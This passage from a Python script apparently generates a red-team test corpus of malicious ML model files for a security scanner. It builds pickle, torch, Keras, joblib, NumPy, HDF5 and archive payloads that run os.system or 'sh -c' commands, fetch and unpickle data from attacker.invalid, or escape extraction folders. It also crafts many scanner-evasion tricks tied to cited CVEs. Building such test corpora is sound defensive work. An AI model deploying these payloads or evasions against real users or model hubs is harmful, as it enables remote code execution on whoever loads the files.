    unlisted = ("_aix_support", "_read_cmd_output")
    src = "2026 round"
    # Allowlisted library pickle helpers that call one of their arguments.
    attack("numpy-randomstate-ctor.pkl", P(2).g("numpy.random._pickle", "__randomstate_ctor").mark().s(CMD).g(*unlisted).tup().reduce().stop().bytes(),
           f"{src}: numpy __randomstate_ctor(name, ctor) calls ctor(name) (numpy/random/_pickle.py)")
    attack("numpy-generator-ctor.pkl", P(4).g("numpy.random._pickle", "__generator_ctor").mark().s(CMD).g("os", "system").tup().reduce().stop().bytes(),
           f"{src}: numpy __generator_ctor calls its bit_generator_ctor argument")
    attack("numpy-bitgen-ctor-class.pkl", P(4).g("numpy.random._pickle", "__bit_generator_ctor").mark().g("test.support", "TestFailed").tup().reduce().stop().bytes(),
           f"{src}: numpy 2 __bit_generator_ctor instantiates any class it is given")
    attack("numpy-bitgen-ctor-computed.pkl", P(4).g("numpy.random._pickle", "__bit_generator_ctor").mark().g("builtins", "getattr").mark().g("os", "path")
           .s("os").tup().reduce().tup().reduce().stop().bytes(), f"{src}: __bit_generator_ctor of a value computed at load time")
    attack("sklearn-newobj-unlisted.pkl", P(2).g("sklearn.neighbors._ball_tree", "newObj").mark().g("test.support", "TestFailed").tup().reduce().stop().bytes(),
           f"{src}: scikit-learn newObj(cls) runs cls.__new__ of an unlisted class")
    attack("pandas-new-index-unlisted.pkl", P(2).g("pandas.core.indexes.base", "_new_Index").mark().g("logging.config", "BaseConfigurator").raw(b"}").tup().reduce().stop().bytes(),
           f"{src}: pandas _new_Index(cls, state) builds an unlisted class")
    attack("mareconstruct-unlisted.pkl", P(2).g("numpy.ma.core", "_mareconstruct").mark().g("test.support", "TestFailed").g("numpy", "ndarray").mark().i(0).tup()
           .s("b").tup().reduce().stop().bytes(), f"{src}: numpy.ma _mareconstruct(subtype, ...) calls subtype.__new__")
    # Helpers that run commands, evaluate code, write files, import modules or load another pickle.
    gadgets = [
        ("idlelib.calltip", "get_entity", [PY], "GHSA-2025 class: idlelib.calltip.get_entity evaluates its argument"),
        ("doctest", "debug_script", [PY], "doctest.debug_script executes its source"),
        ("bdb", "Bdb.run", [lambda p: p.call("bdb", "Bdb"), PY], "bdb.Bdb.run executes a statement"),
        ("pdb", "run", [PY], "pdb.run executes a statement"),
        ("profile", "run", [PY], "profile.run executes a statement"),
        ("logging.config", "fileConfig", ["/tmp/evil.ini"], "logging.config.fileConfig evaluates handler arguments"),
        ("logging.config", "dictConfig", [{"version": 1, "root": {"()": "os.system"}}], "logging.config.dictConfig imports and calls factories"),
        ("site", "addsitedir", ["/tmp/evil"], "site.addsitedir executes .pth files"),
        ("importlib", "import_module", ["evil"], "imports any module"),
        ("runpy", "run_path", ["/tmp/evil.py"], "runs a Python file"),
        ("runpy", "run_module", ["evil"], "runs a module"),
        ("zipimport", "zipimporter", ["/tmp/evil.zip"], "imports from a zip"),
        ("ctypes.util", "find_library", ["c"], "runs gcc/ldconfig in a subprocess"),
        ("_posixsubprocess", "fork_exec", [["sh"]], "the C helper behind subprocess"),
        ("multiprocessing.util", "spawnv_passfds", ["/bin/sh", ["sh", "-c", CMD], []], "executes a program"),
        ("shelve", "open", ["/tmp/evil.db"], "opens a shelf: loads pickles from it"),
        ("_pickle", "loads", [b"\x80\x04."], "the C pickle module"),
        ("dill", "loads", [b"\x80\x04."], "dill loads another pickle"),
        ("cloudpickle", "loads", [b"\x80\x04."], "cloudpickle loads another pickle"),
        ("joblib.numpy_pickle", "load", ["/tmp/evil.joblib"], "joblib loads another pickle"),
        ("numpy.lib.npyio", "load", ["/tmp/evil.npy", None, True], "np.load with allow_pickle=True"),
        ("pandas.io.pickle", "read_pickle", ["https://attacker.invalid/x.pkl"], "pandas downloads and unpickles"),
        ("torch.hub", "load", ["attacker/repo", "model"], "torch.hub.load runs the repository's hubconf.py"),
        ("torch.hub", "download_url_to_file", ["https://attacker.invalid/x", "/tmp/x"], "downloads a file"),
        ("torch.jit", "load", ["/tmp/evil.pt"], "loads TorchScript code"),
        ("torch.utils.cpp_extension", "load_inline", ["evil", "int x;"], "compiles and loads a C++ extension"),
        ("numpy.testing._private.extbuild", "build_and_import_extension", ["evil", []], "compiles and imports C code"),
        ("numpy.distutils.exec_command", "exec_command", [CMD], "runs a shell command"),
        ("setuptools.sandbox", "run_setup", ["/tmp/setup.py"], "runs a setup script"),
        ("pip._internal.cli.main", "main", [["install", "evil"]], "installs a package"),
        ("pandas.io.clipboards", "read_clipboard", [], "runs xclip/xsel/pbpaste"),
        ("urllib.request", "urlretrieve", ["https://attacker.invalid/x", "/tmp/x"], "downloads and writes a file"),
        ("smtplib", "SMTP", ["attacker.invalid"], "network connection"),
        ("operator", "attrgetter", ["system"], "attrgetter builds a getter that is then called"),
        ("functools", "reduce", [lambda p: p.g(*unlisted), [CMD]], "functools.reduce calls its function"),
        ("builtins", "setattr", [lambda p: p.g("os", "path"), "join", lambda p: p.g("os", "system")], "setattr on a module"),
    ]
    for module, name, args, source in gadgets:
        slug = f"{module}.{name}".replace(".", "-").replace("_", "").lower()[:60]
        attack(f"r26-{slug}.pkl", simple(module, name, *args), f"{src}: {source}")
    attack("r26-list-map-gadget.pkl", P(2).g("builtins", "list").mark().g("builtins", "map").mark().g(*unlisted).raw(b"(").s(CMD).raw(b"l").tup().reduce()
           .tup().reduce().stop().bytes(), f"{src}: list(map(gadget, [cmd])): an allowlisted type iterates a lazy call")
    attack("r26-partial-setstate.pkl", P(2).g("functools", "partial").mark().g("builtins", "list").tup().reduce()
           .mark().g(*unlisted).mark().s(CMD).tup().raw(b"}").none().tup().raw(b"b").mark().tup().reduce().stop().bytes(),
           f"{src}: BUILD rewrites an allowed partial's function through __setstate__, then calls it")
    # Opcode tricks.
    attack("r26-ext2.pkl", P(2).raw(b"\x83\x01\x02").mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: EXT2 copyreg extension code")
    attack("r26-ext4.pkl", P(2).raw(b"\x84\x01\x02\x03\x04").mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: EXT4 copyreg extension code")
    attack("r26-memo-overwrite.pkl", P(2).g("builtins", "list").raw(b"q\x01").raw(b"0").g(*unlisted).raw(b"q\x01").raw(b"0").raw(b"h\x01")
           .mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: memo slot reused: the later global wins")
    attack("r26-memoize-long-binget.pkl", P(4).g(*unlisted).raw(b"\x94").raw(b"0").raw(b"j\x00\x00\x00\x00").mark().s(CMD).tup().reduce().stop().bytes(),
           f"{src}: MEMOIZE then LONG_BINGET of an unlisted global")
    attack("r26-dup-global.pkl", P(2).g(*unlisted).raw(b"2").raw(b"0").mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: DUP of a global")
    attack("r26-stack-global-memo-strings.pkl", P(4).s("_aix_support").raw(b"\x94").s("_read_cmd_output").raw(b"\x94").raw(b"00")
           .raw(b"h\x00h\x01\x93").mark().s(CMD).tup().reduce().stop().bytes(), f"{src}: STACK_GLOBAL of names fetched from the memo")
    attack("r26-persid-gadget.pkl", P(2).mark().s("module").g("os", "system").s(CMD).tup().raw(b"Q").stop().bytes(),
           f"{src}: BINPERSID tuple naming a command runner (torch's persistent_load returns it)")
    attack("r26-persid-proto0.pkl", b"Pstorage\n0" + simple("os", "system", CMD, proto=0), f"{src}: PERSID then a protocol 0 payload")
    attack("r26-next-buffer-loads.pkl", P(5).g("pickle", "loads").mark().raw(b"\x97").tup().reduce().stop().bytes(), f"{src}: pickle.loads of an out-of-band buffer (NEXT_BUFFER)")
    attack("r26-readonly-buffer-load-from-bytes.pkl", P(5).g("torch.storage", "_load_from_bytes").mark().raw(b"\x97\x98").tup().reduce().stop().bytes(),
           f"{src}: torch _load_from_bytes of a READONLY_BUFFER")
    inner = simple(*unlisted, CMD, proto=4)
    attack("r26-nested-bytearray8.pkl", P(5).g("pickle", "loads").mark().raw(b"\x96" + struct.pack("<Q", len(inner)) + inner).tup().reduce().stop().bytes(),
           f"{src}: nested pickle in a BYTEARRAY8")
    attack("r26-inst-dotted.p0.pkl", b"(cpathlib\nPath\n(S'/tmp/evil.pth'\ntRS'import os'\nipathlib\nPath.write_text\n.", f"{src}: INST with a dotted name")
    attack("r26-none-pop-prefix.pkl", P(2).raw(b"N0" * 60000).call(*unlisted, CMD).stop().bytes(), f"{src}: 120 KB of NONE/POP before the payload")
    attack("r26-mark-prefix.p0.pkl", b"(" * 70000 + b"1" + simple(*unlisted, CMD, proto=0), f"{src}: 70 000 MARKs (and POP_MARK) before a protocol 0 payload")
    attack("r26-unicode-prefix.p0.pkl", b"V" + b"\\u0041" * 20000 + b"\n0" + simple(*unlisted, CMD, proto=0), f"{src}: protocol 0 unicode string of 120 KB before the payload")
    attack("r26-long-line-5mb.p0.pkl.gz", gzip.compress(b"S'" + b"A" * (5 << 20) + b"'\n0" + simple(*unlisted, CMD, proto=0), mtime=0),
           f"{src}: a 5 MB protocol 0 string line before the payload, past every window a reader takes (gzip keeps the file small)")
    attack("r26-frame-overlong.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + P(4).call(*unlisted, CMD).stop().bytes()[2:], f"{src}: FRAME announcing more bytes than the file holds")
    # Containers.
    attack("r26-torch-zip-duplicate.pt", zip_with_duplicate(P(2).raw(b"}").stop().bytes(), evil), f"{src}: two data.pkl members; zipfile loads the last")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", allowZip64=True) as z:
        with z.open(zip_member("archive/data.pkl"), "w", force_zip64=True) as f:
            f.write(evil)
        z.writestr(zip_member("archive/version"), "3\n")
    attack("r26-torch-zip64.pt", buf.getvalue(), f"{src}: torch zip whose data.pkl has zip64 extra fields")
    commented = torch_zip(evil)
    comment = b"PK\x05\x06" + b"\0" * 18
    attack("r26-zip-eocd-in-comment.pt", commented[:-2] + struct.pack("<H", len(comment)) + comment, f"{src}: an end-of-archive record inside the archive comment")
    attack("r26-joblib-zero-array-then-payload.joblib", P(2).raw(b"}").raw(b"(").s("w").raw(joblib_array_header("<f8", [0])[2:]).raw(b"\x82\x01" if False else b"")
           .s("x").call(*unlisted, CMD).raw(b"u").stop().bytes(), f"{src}: joblib array announced empty: the bytes after it are opcodes again")
    gz = bytearray(gzip.compress(evil, mtime=0))
    gz[3] = 0x1C  # FEXTRA | FNAME | FCOMMENT
    header = bytes(gz[:10]) + struct.pack("<H", 4) + b"ab\0\0" + b"model.pkl\0" + b"a comment\0"
    attack("r26-gzip-header-fields.gz", header + bytes(gz[10:]), f"{src}: gzip member with extra, name and comment fields")
    pax = io.BytesIO()
    with tarfile.open(fileobj=pax, mode="w", format=tarfile.PAX_FORMAT) as t:
        for n, d in {"sys_info": P(2).raw(b"}").stop().bytes(), "pickle": evil, "storages": P(2).raw(b"]").stop().bytes(),
                     "tensors": P(2).raw(b"]").stop().bytes()}.items():
            info = tarfile.TarInfo(n)
            info.size = len(d)
            info.pax_headers = {"comment": "x" * 600}
            t.addfile(info, io.BytesIO(d))
    attack("r26-torch-legacy-tar-pax.tar", pax.getvalue(), f"{src}: legacy torch tar with PAX headers")
    attack("r26-nemo-bz2.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:bz2"), f"{src}: NeMo tar.bz2 with a checkpoint")
    attack("r26-npz-zip64.npz", (lambda b: (b, b.getvalue())[1])(_npz64(npy_object(evil))), f"{src}: npz member with zip64 extra fields")


def round_s20():
    """Session 20: Keras model configurations (which no pickle reader sees) and payloads past the analyser's limits."""
    import keras_files as k  # h5py: only this round needs it
    src = "s20"
    code2 = [k.lambda_bytecode(), None, None]
    attack("s20-keras2-lambda.h5", k.h5_model(k.sequential2([k.dense2("dense", 4), k.lambda2(code2)])),
           f"{src}: legacy .h5 with a Lambda layer's marshalled bytecode (CVE-2024-3660, CVE-2025-9905; modelscan H5LambdaDetectScan)")
    attack("s20-keras2-lambda-string.h5", k.h5_model(k.sequential2([k.lambda2(k.lambda_bytecode())])),
           f"{src}: Lambda bytecode as one base64 string (older Keras 2)")
    attack("s20-keras2-lambda-vlen-userblock.h5", k.h5_model(k.sequential2([k.lambda2(code2)]), variable_length=True, userblock=512),
           f"{src}: model_config as a variable-length string (global heap), superblock after a 512-byte user block")
    attack("s20-keras2-lambda-function-os.h5", k.h5_model(k.sequential2([k.lambda2("system", "function", "os")])),
           f"{src}: Lambda naming os.system by module and function (Keras 2 looks it up in sys.modules)")
    attack("s20-savedmodel-lambda-keras_metadata.pb", k.keras_metadata(k.sequential2([k.dense2("dense", 4), k.lambda2(code2)])),
           f"{src}: a TensorFlow SavedModel's keras_metadata.pb with a Lambda layer's bytecode (modelscan SavedModelLambdaDetectScan)")
    attack("s20-keras3-lambda.keras", k.keras_archive(k.sequential3([k.dense3("dense", 4), k.lambda3(k.lambda3_bytecode())])),
           f"{src}: .keras config.json with a __lambda__ function (runs with safe_mode=False)")
    attack("s20-keras3-module-popen.keras", k.keras_archive(k.sequential3([k.keras_object("subprocess", "Popen", {"args": ["sh", "-c", CMD]})])),
           f"{src}: config.json naming subprocess.Popen as a layer class (CVE-2025-1550, GHSA-48g7-3x6r-xfhp)")
    attack("s20-keras3-function-exec.keras", k.keras_archive(k.sequential3([k.lambda3(k.function_reference("builtins", "exec"))])),
           f"{src}: a Lambda whose function is builtins.exec by reference (CVE-2025-1550)")
    attack("s20-keras3-unsafe-toggle.keras", k.keras_archive(k.sequential3([k.function_reference("keras.config", "enable_unsafe_deserialization"),
                                                                             k.lambda3(k.lambda3_bytecode())])),
           f"{src}: keras.config.enable_unsafe_deserialization before a Lambda (CVE-2025-9906)")
    attack("s20-keras3-get-file.keras", k.keras_archive(k.sequential3([k.lambda3(k.function_reference("keras.utils", "get_file"))])),
           f"{src}: keras.utils.get_file as a gadget inside Keras' own namespace (CVE-2025-8747)")
    attack("s20-keras3-vocabulary-file.keras", k.keras_archive(k.sequential3([k.keras_object("keras.layers", "StringLookup", {"name": "lookup", "vocabulary": "/etc/passwd"})])),
           f"{src}: StringLookup reading its vocabulary from a path the config chooses (CVE-2025-12058)")
    attack("s20-npy-subarray-object.npy", npy_object(evil_npy := simple("os", "system", CMD, proto=2), "('|O', (2,))"),
           f"{src}: .npy whose descr is a subarray of objects (numpy's descr_to_dtype takes a (base, shape) tuple)")
    attack("s20-npy-unicode-literal-descr.npy", npy_object(evil_npy, "u'|O'"), f"{src}: .npy descr written as a u'' literal (literal_eval reads it as '|O')")
    attack("s20-keras3-lambda-renamed.bin", k.keras_archive(k.sequential3([k.lambda3(k.lambda3_bytecode())])),
           f"{src}: a .keras archive under another name (load_model sniffs the zip)")
    unlisted = ("_aix_support", "_read_cmd_output")
    tail = P(2).call(*unlisted, CMD).stop().bytes()[2:]
    attack("s20-none-pop-past-opcode-limit.pkl.gz", gzip.compress(b"\x80\x02" + b"N0" * 2_600_000 + tail, 9, mtime=0),
           f"{src}: 5.2 million NONE/POP opcodes, past the analyser's opcode limit, before the payload (gzip keeps the file small)")
    attack("s20-pushes-past-stack-limit.pkl", b"\x80\x02" + b"N" * 100_001 + tail, f"{src}: 100 001 pushes, past the analyser's stack limit, before the payload")
    names = P(4).s("posix").raw(b"\x94").s("system").raw(b"\x94").raw(b"00").bytes()
    attack("s20-memoized-names-past-limit.pkl.gz", gzip.compress(names + b"N0" * 2_600_000 + b"h\x00h\x01\x93(\x8c\x02idtR.", 9, mtime=0),
           f"{src}: module and name memoized before the opcode limit, STACK_GLOBAL of their BINGETs after it")
    attack("s20-protocol0-past-opcode-limit.p0.pkl.gz", gzip.compress(b"I1\n0" * 2_600_000 + b"cposix\nsystem\n(S'id'\ntR.", 9, mtime=0),
           f"{src}: protocol 0 (no PROTO header) padded past the opcode limit")


def round_s20_tar(evil):
    """Legacy torch tars whose `pickle` member only Python's tarfile finds (torch.load reads it with extractfile)."""
    src = "s20"
    benign = P(2).raw(b"}").stop().bytes()
    empty = P(2).raw(b"]").stop().bytes()

    def header(name, size, typeflag=b"0"):
        h = bytearray(512)
        h[: len(name)] = name.encode()
        h[100:108] = b"0000644\0"
        h[108:116] = b"0000000\0"
        h[116:124] = b"0000000\0"
        h[124:136] = b"%011o\0" % size
        h[136:148] = b"00000000000\0"
        h[156:157] = typeflag
        h[257:265] = b"ustar\x0000"
        h[148:156] = b" " * 8
        h[148:156] = b"%06o\0 " % sum(h)
        return bytes(h)

    def member(name, data, typeflag=b"0"):
        return header(name, len(data), typeflag) + data + b"\0" * (-len(data) % 512)

    def legacy(pickle_part):
        return member("sys_info", benign) + pickle_part + member("storages", empty) + member("tensors", empty) + b"\0" * 1024

    def pax_record(key, value):
        text = f" {key}={value}\n".encode()
        n = len(text) + 1
        while len(str(n)) + len(text) != n:
            n = len(str(n)) + len(text)
        return str(n).encode() + text

    attack("s20-tar-unknown-type.tar", legacy(member("pickle", evil, b"Z")),
           f"{src}: `pickle` member with an unknown type flag: tarfile reads unknown types as regular files")
    attack("s20-tar-type-9.tar", legacy(member("pickle", evil, b"9")), f"{src}: `pickle` member with type flag 9 (not a tarfile type)")
    pax = pax_record("size", len(evil))
    attack("s20-tar-pax-size.tar", legacy(member("././@PaxHeader", pax, b"x") + header("pickle", 0) + evil + b"\0" * (-len(evil) % 512)),
           f"{src}: header size 0, the real size in a pax `size` record (tarfile honours it)")
    signed = bytearray(member("pickle", evil))
    signed[265:268] = b"\xe9\xe9\xe9"  # owner name bytes above 0x7f: the signed and unsigned sums differ
    signed[148:156] = b" " * 8
    signed[148:156] = b"%06o\0 " % sum(b - 256 if b > 127 else b for b in signed[:512])
    attack("s20-tar-signed-checksum.tar", legacy(bytes(signed)), f"{src}: `pickle` member whose header checksum is the signed sum (tarfile accepts both)")
    hidden = member("pickle", evil)
    attack("s20-tar-directory-size-hides-member.tar", legacy(header("data/", len(hidden), b"5") + hidden),
           f"{src}: a directory entry whose size field covers the `pickle` member's header: tarfile skips no data after a directory")


class _Command:
    """Pickles as os.system(CMD) (its __reduce__), as a malicious object saved by the real libraries would."""

    def __reduce__(self):
        return (os.system, (CMD,))


def _torch_save(obj, legacy=False):
    """torch.save into memory (the zip format, or the legacy stacked-pickle format); torch is imported only here."""
    import torch
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
    return buf.getvalue()


def _zip_set_flags(data, member_suffix, flags):
    """Sets general-purpose flag bits on one member, in its local header and its central directory entry."""
    out = bytearray(data)
    for sig, flag_at, name_len_at, name_at in ((b"PK\x03\x04", 6, 26, 30), (b"PK\x01\x02", 8, 28, 46)):
        at = out.find(sig)
        while at >= 0:
            n = struct.unpack_from("<H", out, at + name_len_at)[0]
            if bytes(out[at + name_at: at + name_at + n]).endswith(member_suffix):
                struct.pack_into("<H", out, at + flag_at, struct.unpack_from("<H", out, at + flag_at)[0] | flags)
            at = out.find(sig, at + 4)
    return bytes(out)


def _zip_break_crc(data, member_suffix):
    """Flips the stored CRC-32 of one member (local header and central directory): zipfile refuses it, readers that skip the check do not."""
    out = bytearray(data)
    for sig, crc_at, name_len_at, name_at in ((b"PK\x03\x04", 14, 26, 30), (b"PK\x01\x02", 16, 28, 46)):
        at = out.find(sig)
        while at >= 0:
            n = struct.unpack_from("<H", out, at + name_len_at)[0]
            if bytes(out[at + name_at: at + name_at + n]).endswith(member_suffix):
                out[at + crc_at] ^= 0xFF
            at = out.find(sig, at + 4)
    return bytes(out)


def round_s21():
    """Session 21: files written by the real libraries (torch, joblib, numpy, pickle) around a __reduce__ payload."""
    import json
    import pickle as _pickle

    import joblib.numpy_pickle_compat as joblib_compat
    import numpy as np
    import keras_files as k
    src = "s21"
    payload = _Command()
    zipped, legacy = _torch_save(payload), _torch_save(payload, legacy=True)

    def wrapper(saved):
        return k.keras_archive(k.sequential3([k.dense3("dense", 4), k.torch_module_wrapper(saved)]))

    attack("s21-keras3-torch-module-wrapper.keras", wrapper(zipped),
           f"{src}: TorchModuleWrapper whose base64 `module` is a torch.save file: from_config runs torch.load(weights_only=False) (CVE-2025-49655, safe mode on in Keras 3.11.0-3.11.2)")
    attack("s21-keras3-torch-module-wrapper-legacy.keras", wrapper(legacy),
           f"{src}: TorchModuleWrapper holding a legacy-format torch.save (stacked pickles, not a zip)")
    attack("s21-torch-save-legacy-format.pt", legacy, f"{src}: torch.save(_use_new_zipfile_serialization=False) of a payload object")
    attack("s21-torch-zip-encrypted-flag.pt", _zip_set_flags(zipped, b"/data.pkl", 0x0001),
           f"{src}: torch.save zip whose data.pkl has the 'encrypted' flag bit set (CVE-2025-1945: zipfile refuses it, PyTorch's reader ignores it)")
    attack("s21-torch-zip-flag-bits.pt", _zip_set_flags(zipped, b"/data.pkl", 0x0020 | 0x0040),
           f"{src}: torch.save zip whose data.pkl sets the 'patched data' and 'strong encryption' flag bits (CVE-2025-1945)")
    attack("s21-torch-zip-bad-crc.pt", _zip_break_crc(zipped, b"/data.pkl"),
           f"{src}: torch.save zip whose data.pkl has a wrong CRC-32 (CVE-2025-10156: zipfile raises, PyTorch does not check)")
    zf = io.BytesIO()
    joblib_compat.write_zfile(zf, _pickle.dumps(payload, protocol=2))
    attack("s21-joblib-zfile.pkl", zf.getvalue(), f"{src}: joblib < 0.10 'ZF' file written by joblib's write_zfile (joblib.load of a path still reads it)")
    attack("s21-npy-named-pickle.p0.npy", _pickle.dumps(payload, protocol=0),
           f"{src}: a protocol 0 pickle named .npy: np.load(allow_pickle=True) unpickles bytes that are neither .npy nor zip")
    npz_buf = io.BytesIO()
    np.savez(npz_buf, weights=np.zeros(4, dtype="float32"), meta=np.array([payload], dtype=object))
    attack("s21-npz-object-member.npz", npz_buf.getvalue(), f"{src}: np.savez with an object array member beside a float one (np.load(allow_pickle=True)['meta'])")
    attack("s21-keras2-lambda-escaped-keys.h5", k.h5_model(k.sequential2([k.dense2("dense", 4), k.lambda2(k.lambda_bytecode())]), escaped_keys=True),
           f"{src}: legacy .h5 whose model_config spells every \"class_name\" key as \"\\u0063lass_name\" (json.loads reads the plain key; a byte search for it finds nothing)")
    import hdf5_objects
    attack("s21-pytables-object-row.h5", hdf5_objects.pytables_objects([{"version": 1}, payload]),
           f"{src}: HDF5 written by PyTables with an ObjectAtom VLArray whose second row is the payload (reading the array runs pickle.loads per row; pandas' HDFStore object data too)")
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w") as z:
        z.writestr(zip_member("model/pytorch_model.bin"), zipped)
        z.writestr(zip_member("model/config.json"), json.dumps({"architectures": ["Net"]}))
    attack("s21-zip-in-tar-gz.tar.gz", tar({"release/model.zip": nested.getvalue()}, "w:gz"),
           f"{src}: a torch.save zip inside a zip inside a tar.gz (a model release archive)")


def round_s22():
    """Session 22: limits spent on purpose before the payload, and pickles HDF5 rows hold in any protocol."""
    import hdf5_objects
    src = "s22"
    # A payload after more pushes than the framing walk's 2^20-entry stack holds is tested in
    # test/artifact-redteam-s22.test.ts rather than kept here: its million pushes cost the model-file folder's
    # bench ~0.2 s of CPU.
    import keras_files as k
    attack("s22-keras2-lambda-tf-load-op-library.h5", k.h5_model(k.sequential2([k.lambda2("load_op_library", "function", "tensorflow")])),
           f"{src}: Lambda naming tensorflow.load_op_library by module and function (Keras 2 looks it up in sys.modules): loads a native library")
    attack("s22-keras3-tf-io-write-file.keras", k.keras_archive(k.sequential3([k.lambda3(k.function_reference("tensorflow.io", "write_file"))])),
           f"{src}: a Lambda whose function is tensorflow.io.write_file by reference (TensorFlow is Keras' backend, not a safe namespace)")
    import torchscript_attacks
    attack("s22-torchscript-setstate-save.pt", torchscript_attacks.save_on_load(),
           f"{src}: torch.jit.save archive whose scripted __setstate__ calls torch.save (aten::save): torch.jit.load runs it and writes a file")
    for protocol in (0, 2):
        attack(f"s22-pytables-row-p{protocol}.h5", hdf5_objects.pytables_objects([{"version": 1}, _Command()], protocol=protocol),
               f"{src}: PyTables ObjectAtom row pickled with protocol {protocol} (no FRAME header: ObjectAtom.fromarray unpickles a row of any protocol, as Python 2 wrote them)")


def round_s23():
    """Session 23: formats beyond pickle. GGUF chat templates that escape Jinja (rendered on load by llama-cpp-python
    before 0.2.72), forged GGUF headers, and ONNX external data outside the model's folder; bytes written per the
    formats' specifications by model_formats.py (Debian's python3 has neither the gguf nor the onnx package)."""
    import model_formats
    for name, data, source in model_formats.attacks_gguf() + model_formats.attacks_onnx():
        attack(name, data, f"s23: {source} (written per the format's specification)")
    onnx_attack = dict((n, d) for n, d, _ in model_formats.attacks_onnx())["s23-onnx-external-dotdot.onnx"]
    attack("s23-onnx-hub-model.tar.gz", tar({"model/model.onnx": onnx_attack, "model/test_data_set_0/input_0.pb": b"\x08\x01"}, "w:gz"),
           "s23: an ONNX model zoo tarball (what onnx.hub.download_model_with_test_data extracts, CVE-2024-5187) whose model reads ../ external data")
    gguf_attack = dict((n, d) for n, d, _ in model_formats.attacks_gguf())["s23-gguf-template-cycler-globals.gguf"]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zip_member("release/model-q4_0.gguf"), gguf_attack)
    attack("s23-gguf-in-zip.zip", buf.getvalue(), "s23: a GGUF model with an escaping chat template inside a release zip")
    attack("s23-torch2-mmap-layout.pt", _torch2_aligned_zip(simple("posix", "system", CMD, proto=2)),
           "s23: the torch >= 2.4 archive layout torch.load(mmap=True) maps (64-byte aligned records padded with 'FB' extra fields, "
           ".format_version, .storage_alignment, byteorder, .data/serialization_id) with the payload in data.pkl")


def round_s24():
    """Session 24: model bundles. Archive members and links that escape the extraction folder, and configs inside
    model files (.nemo model_config.yaml, checkpoint hparams, safetensors metadata) whose _target_ Hydra instantiates."""
    import bundles
    for name, data, source in bundles.attacks():
        attack(name, data, source)


def round_s25():
    """Session 25: 7z archives whose members or symbolic links escape the extraction folder, zip Unicode Path names."""
    import bundles_s25
    for name, data, source in bundles_s25.attacks():
        attack(name, data, source)


def _torch2_aligned_zip(payload, name="archive"):
    """A zip laid out as torch >= 2.4 writes it: every record's data 64-byte aligned by an 'FB' padding extra field."""
    records = [("data.pkl", payload), (".format_version", b"1"), (".storage_alignment", b"64"), ("byteorder", b"little"),
               ("data/0", bytes(16)), ("version", b"3\n"), (".data/serialization_id", b"0123456789012345678901234567890123456789")]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for record, data in records:
            info = zip_member(f"{name}/{record}")
            start = buf.tell() + 30 + len(info.filename) + 4
            info.extra = b"FB" + struct.pack("<H", (64 - start % 64) % 64) + bytes((64 - start % 64) % 64)
            z.writestr(info, data)
    return buf.getvalue()


def _npz64(member):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open(zip_member("a.npy"), "w", force_zip64=True) as f:
            f.write(member)
    return buf


def main():
    build()
    os.makedirs(OUT, exist_ok=True)
    for old in os.listdir(OUT):
        os.remove(os.path.join(OUT, old))
    lines = ["# Red-team corpus (generated by scripts/artifacts/gen-redteam.py; never load these files)", "",
             f"{len(ATTACKS)} malicious files. Every one must be reported at error level (critical or high).", "",
             "| file | technique / source |", "|---|---|"]
    for name, data, source in ATTACKS:
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(data)
        lines.append(f"| {name} | {source} |")
    with open(os.path.join(OUT, "MANIFEST.md"), "w") as f:
        f.write("\n".join(lines) + "\n")
    print(f"wrote {len(ATTACKS)} attacks to {OUT}")


if __name__ == "__main__":
    main()
